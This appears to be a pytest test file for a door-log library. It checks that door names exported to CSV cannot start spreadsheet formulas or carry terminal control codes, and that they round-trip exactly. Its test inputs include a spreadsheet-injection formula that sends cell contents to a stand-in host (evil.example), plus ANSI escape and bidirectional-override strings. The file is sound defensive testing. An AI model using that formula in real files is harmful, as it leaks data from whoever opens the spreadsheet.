"""Names in CSV files: harmless to spreadsheets and terminals, and back again to the letter."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import semmap_log as sl
from semmap_log.interop.exporting.log_files import export
from semmap_log.interop.formats.files import csv_blocks
from semmap_log.interop.formats.files.door_csv import read_door_csv
from semmap_log.interop.formats.parsing.text_column import harmless, meant
from semmap_log.interop.importing.importing import import_file

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NAMES = [
    FORMULA, "+1", "-2", "@SUM(A1)", " =1", "'=1", "''-1", "'quoted'", "'", "a=b", "\tx", "\rx",
    "red \x1b[31mdoor\x07", "two\nlines", "C:\\users\\u001b", "\\u005cu001b", "\\u0041", "\\",
    "turned\u202eback", "\x9b31m", "\uff1d1", "Tür", "a b", 'x,"y"',
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_name_comes_back_as_it_was(name: str) -> None:
    """And as it is written it begins no formula, and steers nothing."""
    written = harmless(name)

    assert name == meant(written)
    assert written.strip()[0] not in "=+-@\uff1d"
    assert not any(c < " " or "\x7f" <= c <= "\x9f" or c == "\u202e" for c in written)


@given(st.text(st.sampled_from("'=+-@ \t\r\n\x1b\\u0015cabdef\u202e") | st.characters()))
def test_every_name_comes_back(name: str) -> None:
    """Whatever it is made of."""
    assert name == meant(harmless(name))


@pytest.mark.parametrize("name", ["door", "Tür 2", "a'b", "x=y", "C:\\temp", "\\unit"])
def test_other_names_are_as_they_are(name: str) -> None:
    """Files of others, and old ones of ours, mean what they meant."""
    assert name == harmless(name) == meant(name)


def test_an_exported_log_comes_back_with_its_names(tmp_path: Path) -> None:
    """A spreadsheet's reader sees no formula; a new log has the same doors."""
    names = sorted(name for name in NAMES if name.strip() == name)
    with sl.create(tmp_path / "log", tz="UTC") as log:
        for name in names:
            log.add_door(name=name, state="open")
    out = tmp_path / "doors.csv"
    export(sl.read(tmp_path / "log"), out)
    with sl.create(tmp_path / "again", tz="UTC") as log:
        import_file(log, out)
    with out.open(newline="") as file:
        cells = [row["door"] for row in csv.DictReader(file)]

    doors = sl.read(tmp_path / "again").replay().doors.values()
    assert names == sorted(door.name for door in doors)
    assert len(names) == len(cells)
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r")) or "\x1b" in cell]


def test_names_that_read_like_others_that_are_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A door called '=1 and one called =1, in blocks of their own."""
    monkeypatch.setattr(csv_blocks, "BLOCK_BYTES", 64)
    rows = "2026-01-01T10:00,''=1,open\n" * 8 + "2026-01-01T10:00,'=1,closed\n" * 8
    (tmp_path / "x.csv").write_text("timestamp,door,state\n" + rows)

    found = read_door_csv(tmp_path / "x.csv", tz="UTC")

    assert ("'=1", "=1") == found.doors


def test_windows_name_doors_in_the_same_way(tmp_path: Path) -> None:
    """As the file that they belong to."""
    (tmp_path / "x.csv").write_text("timestamp,door,state\n2026-01-01T10:00,'=1,open\n")
    (tmp_path / "w.csv").write_text("door,start,end\n'=1,2026-01-01T09:00,2026-01-01T11:00\n")

    found = read_door_csv(tmp_path / "x.csv", windows=tmp_path / "w.csv", tz="UTC")

    assert ("=1",) == found.doors
    assert () == found.warnings
